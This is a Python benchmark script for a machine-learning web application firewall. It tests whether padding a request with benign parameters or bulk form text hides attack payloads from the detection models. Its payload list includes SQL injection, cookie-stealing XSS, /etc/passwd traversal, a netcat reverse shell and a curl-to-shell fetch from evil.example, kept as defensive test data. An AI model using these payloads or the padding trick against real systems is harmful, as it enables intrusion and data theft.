"""Does benign bulk hide an attack? The same payloads plain and padded, models side by side.

A model that reads a request as a whole judges a field in the light of everything before
it, so an attacker can pad: sixty harmless parameters first, the payload in the middle of
them, or 10 KB of prose in a form. This scores twelve classic payloads (the ones
tests/reliability holds the default model to) and held-out corpus payloads (the 20 %
hash-held-out PayloadsAllTheThings and fwaf rows training never saw) in four placements,
with every model given, at each model's own threshold, in one run.

    .venv/bin/python benchmarks/padding.py models/default [DIR ...] [--corpus-payloads 400]
"""

from __future__ import annotations

import argparse
import random
import sys
from pathlib import Path
from urllib.parse import quote_plus

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from waf_proxy.inspect import RequestView

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT.parent / "shared" / "datasets"
CORPORA = ("payloadsallthethings/attack.jsonl@0.2", "fwaf/attack.jsonl@0.2")

PADDING_ATTACKS = [
    "1' or '1'='1", "1 union select username, password from users--", "'; drop table users; --",
    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd", "; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil.example/x.sh | sh)", "{{7*7}}{{config.items()}}", "1;waitfor delay '0:0:5'--",
]


def padded_views(payload: str) -> dict[str, RequestView]:
    """One payload in a search field: plain, after 60 benign parameters, between 30 and 30,
    and after 10 KB of prose in a form body."""
    q = quote_plus(payload)
    pad = [f"f{i}=value{i}" for i in range(60)]
    ua = (("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"),)
    return {
        "plain": RequestView("GET", "/search", query=f"q={q}", headers=ua),
        "after 60 params": RequestView("GET", "/search", query="&".join(pad + [f"q={q}"]), headers=ua),
        "between 30+30 params": RequestView("GET", "/search", query="&".join(pad[:30] + [f"q={q}"] + pad[30:]),
                                            headers=ua),
        "after 10 KB of form body": RequestView(
            "POST", "/comment", headers=ua + (("content-type", "application/x-www-form-urlencoded"),),
            body=("note=" + "lorem+ipsum+" * 900 + "&q=" + q).encode()),
    }


def detection(scorer, payloads: list[str], batch: int = 64) -> dict[str, float]:  # noqa: ANN001
    """Share of payloads at or above the scorer's threshold, per placement."""
    names: list[str] = []
    views: list[RequestView] = []
    for payload in payloads:
        for name, view in padded_views(payload).items():
            names.append(name)
            views.append(view)
    hits: dict[str, list[bool]] = {}
    for start in range(0, len(views), batch):
        results = scorer.score_batch(views[start : start + batch])
        for name, result in zip(names[start : start + batch], results):
            hits.setdefault(name, []).append(result.score >= scorer.threshold)
    return {name: sum(h) / len(h) for name, h in hits.items()}


def corpus_payloads(n: int, seed: int) -> list[str]:
    """Up to n payloads of the held-out attack rows (as generated traffic extracts them)."""
    from waf_proxy.training.evaluate import load_eval_rows
    from waf_proxy.training.synth import extract_payloads

    present = [str(DATA / c) for c in CORPORA if (DATA / c.split("@")[0]).is_file()]
    rows = load_eval_rows(present, None)[0] if present else []
    payloads = sorted({p for p, _ in extract_payloads(rows)})
    random.Random(seed).shuffle(payloads)
    return payloads[:n]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("models", nargs="+")
    ap.add_argument("--corpus-payloads", type=int, default=400)
    ap.add_argument("--seed", type=int, default=0)
    args = ap.parse_args(argv)

    from waf_proxy.engine.artifacts import load_scorer

    sets = {"12 classic payloads": PADDING_ATTACKS,
            "held-out corpus payloads": corpus_payloads(args.corpus_payloads, args.seed)}
    placements = list(padded_views("x"))
    print("| model | field weight | payloads | " + " | ".join(placements) + " |")
    print("|---|---:|---|" + "---:|" * len(placements))
    for path in args.models:
        scorer = load_scorer(Path(path), threads=2)
        for label, payloads in sets.items():
            if not payloads:
                continue
            rates = detection(scorer, payloads)
            cells = " | ".join(f"{100 * rates[p]:.1f} %" for p in placements)
            print(f"| {path} ({scorer.version}) | {scorer.params.field_weight:g} | {label} ({len(payloads)}) | {cells} |",
                  flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
